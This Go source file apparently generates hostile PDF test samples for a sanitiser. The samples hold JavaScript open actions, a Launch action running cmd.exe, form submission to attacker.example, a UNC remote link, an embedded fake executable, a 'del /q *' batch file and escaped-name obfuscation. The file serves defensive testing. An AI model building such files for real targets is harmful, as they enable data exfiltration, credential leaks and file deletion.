package pdf

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"strings"
)

// pdfFile builds small PDFs byte by byte, so that hostile samples can spell names and
// place objects exactly as an attacker would (a real producer would normalise them).
// objs[i] is the body of object i+1.
type pdfFile struct {
	objs []string
}

func (p *pdfFile) add(body string) int {
	p.objs = append(p.objs, body)
	return len(p.objs)
}

// basePDF is a one-page document: 1 catalog, 2 pages, 3 page, 4 contents, 5 font. The
// extra strings go inside the catalog and page dictionaries.
func basePDF(catalogExtra, pageExtra string) *pdfFile {
	p := &pdfFile{}
	p.add("<< /Type /Catalog /Pages 2 0 R " + catalogExtra + " >>")
	p.add("<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	p.add("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R " +
		"/Resources << /Font << /F1 5 0 R >> >> " + pageExtra + " >>")
	p.add(stream("", []byte("BT /F1 24 Tf 72 700 Td (Hostile sample page) Tj ET"), false))
	p.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
	return p
}

// stream returns a stream object body; flate compresses data with FlateDecode.
func stream(dict string, data []byte, flate bool) string {
	if flate {
		var b bytes.Buffer
		zw := zlib.NewWriter(&b)
		zw.Write(data)
		zw.Close()
		data = b.Bytes()
		dict += " /Filter /FlateDecode"
	}
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

// bytes writes the file with a classic xref table; it returns the file and the offset of
// its xref section (for an incremental update's /Prev).
func (p *pdfFile) bytes(trailerExtra string) ([]byte, int) {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offs := make([]int, len(p.objs))
	for i, body := range p.objs {
		offs[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, body)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(p.objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n", len(p.objs)+1, trailerExtra, xref)
	return b.Bytes(), xref
}

// appendUpdate adds an incremental update after base's %%EOF that replaces or adds the
// given objects, as an editor saving changes would.
func appendUpdate(base []byte, prevXref, size int, objs map[int]string) []byte {
	b := bytes.NewBuffer(append([]byte(nil), base...))
	nums := make([]int, 0, len(objs))
	for n := range objs {
		nums = append(nums, n)
		size = max(size, n+1)
	}
	sortInts(nums)
	offs := map[int]int{}
	for _, n := range nums {
		offs[n] = b.Len()
		fmt.Fprintf(b, "%d 0 obj\n%s\nendobj\n", n, objs[n])
	}
	xref := b.Len()
	b.WriteString("xref\n0 1\n0000000000 65535 f \n")
	for _, n := range nums {
		fmt.Fprintf(b, "%d 1\n%010d 00000 n \n", n, offs[n])
	}
	fmt.Fprintf(b, "trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", size, prevXref, xref)
	return b.Bytes()
}

func sortInts(a []int) {
	for i := 1; i < len(a); i++ {
		for j := i; j > 0 && a[j] < a[j-1]; j-- {
			a[j], a[j-1] = a[j-1], a[j]
		}
	}
}

func jsAction(script string) string {
	return "<< /Type /Action /S /JavaScript /JS (" + escapeLiteral(script) + ") >>"
}

func escapeLiteral(s string) string {
	return strings.NewReplacer(`\`, `\\`, `(`, `\(`, `)`, `\)`).Replace(s)
}

func link(rect, action string) string {
	return "<< /Type /Annot /Subtype /Link /Rect [" + rect + "] /Border [0 0 0] /A " + action + " >>"
}

// hostileFiles builds each hostile sample of testdata/pdf. The comment on each says which
// feature it carries; README.md lists them.
func hostileFiles() map[string][]byte {
	out := map[string][]byte{}
	one := func(p *pdfFile) []byte { b, _ := p.bytes(""); return b }

	// Document-level JavaScript run on open, with a chained second script.
	p := basePDF("/OpenAction 6 0 R", "")
	p.add("<< /Type /Action /S /JavaScript /JS (app.alert\\('open'\\)) /Next 7 0 R >>")
	p.add(jsAction("this.exportDataObject({cName: 'x'})"))
	out["hostile-js-openaction.pdf"] = one(p)

	// Document-level JavaScript in the /Names /JavaScript name tree.
	p = basePDF("/Names << /JavaScript 6 0 R >>", "")
	p.add("<< /Names [(init) 7 0 R] >>")
	p.add(jsAction("app.alert('names')"))
	out["hostile-js-names.pdf"] = one(p)

	// Trigger actions: catalog /AA (will close), page /AA (open), a form field /AA
	// (keystroke and calculate) and an annotation /AA (mouse enter).
	p = basePDF("/AA << /WC 6 0 R >> /AcroForm << /Fields [8 0 R] >>", "/AA << /O 7 0 R >> /Annots [8 0 R 9 0 R]")
	p.add(jsAction("app.alert('close')"))
	p.add(jsAction("app.alert('page open')"))
	p.add("<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 620] /P 3 0 R " +
		"/AA << /K " + jsAction("event.rc = true") + " /C " + jsAction("event.value = 1") + " >> >>")
	p.add("<< /Type /Annot /Subtype /Square /Rect [72 500 100 520] /AA << /E " + jsAction("app.beep(0)") + " >> >>")
	out["hostile-aa.pdf"] = one(p)

	// Launch action on a link.
	p = basePDF("", "/Annots [6 0 R]")
	p.add(link("72 700 300 720", "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> /NewWindow true >>"))
	out["hostile-launch.pdf"] = one(p)

	// Form actions: SubmitForm on a button, ImportData and ResetForm (with a chained
	// script) on links.
	p = basePDF("/AcroForm << /Fields [6 0 R] >>", "/Annots [6 0 R 7 0 R 8 0 R]")
	p.add("<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 600 200 620] /P 3 0 R " +
		"/A << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> /Flags 4 >> >>")
	p.add(link("72 560 200 580", "<< /S /ImportData /F (data.fdf) >>"))
	p.add(link("72 520 200 540", "<< /S /ResetForm /Next "+jsAction("app.alert('reset')")+" >>"))
	out["hostile-forms-actions.pdf"] = one(p)

	// Remote go-to actions and a remote article thread.
	p = basePDF("", "/Annots [6 0 R 7 0 R 8 0 R]")
	p.add(link("72 700 300 720", "<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] /NewWindow true >>"))
	p.add(link("72 660 300 680", "<< /S /GoToE /T << /R /C /N (payload.pdf) >> /D [0 /Fit] >>"))
	p.add(link("72 620 300 640", "<< /S /Thread /F (https://attacker.example/t.pdf) /D 0 >>"))
	out["hostile-remote-goto.pdf"] = one(p)

	// Multimedia: a Rendition action on a link, Sound and Movie annotations, a Screen
	// annotation with a rendition action and a 3D annotation.
	p = basePDF("", "/Annots [6 0 R 7 0 R 8 0 R 9 0 R 10 0 R]")
	p.add(link("72 700 300 720", "<< /S /Rendition /OP 0 /AN 9 0 R /JS (app.alert\\(1\\)) >>"))
	p.add("<< /Type /Annot /Subtype /Sound /Rect [72 650 90 670] /Sound 11 0 R >>")
	p.add("<< /Type /Annot /Subtype /Movie /Rect [72 600 90 620] /Movie << /F (movie.mov) >> >>")
	p.add("<< /Type /Annot /Subtype /Screen /Rect [72 550 90 570] /P 3 0 R /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /F (clip.mp4) >> >> >> >> >>")
	p.add("<< /Type /Annot /Subtype /3D /Rect [72 500 90 520] /3DD 12 0 R >>")
	p.add(stream("/Type /Sound /R 8000", []byte("\x00\x01\x02\x03"), false))
	p.add(stream("/Type /3D /Subtype /U3D", []byte("U3D\x00"), false))
	out["hostile-media.pdf"] = one(p)

	// RichMedia (Flash) annotation with its content and an execute action.
	p = basePDF("", "/Annots [6 0 R]")
	p.add("<< /Type /Annot /Subtype /RichMedia /Rect [72 500 300 700] " +
		"/RichMediaContent << /Assets << /Names [(a.swf) 7 0 R] >> /Configurations [] >> " +
		"/RichMediaSettings << /Activation << /Condition /PO >> >> >>")
	p.add("<< /Type /Filespec /F (a.swf) /EF << /F 8 0 R >> >>")
	p.add(stream("/Type /EmbeddedFile", []byte("FWS\x09fake flash"), false))
	out["hostile-richmedia.pdf"] = one(p)

	// XFA form with field scripts.
	p = basePDF("/AcroForm << /Fields [6 0 R] /XFA 7 0 R >> /NeedsRendering true", "/Annots [6 0 R]")
	p.add("<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /Rect [72 600 300 620] /P 3 0 R " +
		"/AA << /C " + jsAction("event.value = 42") + " /V " + jsAction("app.alert('v')") + " >> >>")
	p.add(stream("", []byte(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script contentType="application/x-javascript">app.alert('xfa')</script></template></xdp:xdp>`), true))
	out["hostile-xfa.pdf"] = one(p)

	// Embedded files: the EmbeddedFiles name tree and a FileAttachment annotation.
	p = basePDF("/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>", "/Annots [8 0 R]")
	p.add("<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 7 0 R >> >>")
	p.add(stream("/Type /EmbeddedFile /Subtype /application#2Foctet-stream", []byte("MZ\x90\x00fake executable"), false))
	p.add("<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS 9 0 R /Name /PushPin >>")
	p.add("<< /Type /Filespec /F (readme.bat) /EF << /F 10 0 R >> >>")
	p.add(stream("/Type /EmbeddedFile", []byte("@echo off\r\ndel /q *\r\n"), true))
	out["hostile-embedded.pdf"] = one(p)

	// Chained actions: an outline entry whose harmless GoTo chains to JavaScript and
	// Launch; a web link chaining to JavaScript.
	p = basePDF("/Outlines 6 0 R", "/Annots [8 0 R]")
	p.add("<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>")
	p.add("<< /Title (Chapter 1) /Parent 6 0 R /A << /S /GoTo /D [3 0 R /Fit] /Next [" +
		jsAction("app.alert('next')") + " << /S /Launch /F (calc.exe) >> << /S /GoTo /D [3 0 R /Fit] >>] >> >>")
	p.add(link("72 700 300 720", "<< /S /URI /URI (https://www.example.jp/) /Next "+jsAction("app.alert('uri next')")+" >>"))
	out["hostile-next-chain.pdf"] = one(p)

	// Names spelled with #xx escapes: /O#70enAction is /OpenAction, /J#61vaScript is
	// /JavaScript, /#41A is /AA and /J#53 is /JS.
	p = basePDF("/O#70enAction 6 0 R /Names << /J#61vaScript << /Names [(x) 7 0 R] >> >>", "/#41A << /O 7 0 R >>")
	p.add("<< /Type /Action /S /J#61v#61Script /J#53 (app.alert\\('escaped'\\)) >>")
	p.add("<< /S /#4Aava#53cript /#4A#53 (app.alert\\('escaped 2'\\)) >>")
	out["hostile-escaped-names.pdf"] = one(p)

	// JavaScript held in a FlateDecode-compressed stream (/JS may be a stream).
	p = basePDF("/OpenAction 6 0 R", "")
	p.add("<< /Type /Action /S /JavaScript /JS 7 0 R >>")
	p.add(stream("", []byte("var s = 'compressed'; app.alert(s);"), true))
	out["hostile-js-flate.pdf"] = one(p)

	// An incremental update after %%EOF that adds document JavaScript to a clean file.
	p = basePDF("", "")
	base, xref := p.bytes("")
	out["hostile-incremental.pdf"] = appendUpdate(base, xref, 6, map[int]string{
		1: "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
		6: jsAction("app.alert('added by update')"),
	})

	// URI links: two web links (kept by default), a javascript: and a file: URI (removed).
	p = basePDF("", "/Annots [6 0 R 7 0 R 8 0 R 9 0 R]")
	p.add(link("72 700 300 720", "<< /S /URI /URI (https://www.example.jp/guide) >>"))
	p.add(link("72 660 300 680", "<< /S /URI /URI (mailto:info@example.jp) >>"))
	p.add(link("72 620 300 640", "<< /S /URI /URI (javascript:alert\\(1\\)) >>"))
	p.add(link("72 580 300 600", "<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"))
	out["hostile-uri.pdf"] = one(p)

	// Viewer commands and an action dictionary of unknown type.
	p = basePDF("", "/Annots [6 0 R 7 0 R 8 0 R]")
	p.add(link("72 700 300 720", "<< /S /Named /N /Print >>"))
	p.add(link("72 660 300 680", "<< /S /Named /N /NextPage >>"))
	p.add(link("72 620 300 640", "<< /Type /Action /S /X-Unknown >>"))
	out["hostile-named.pdf"] = one(p)

	return out
}
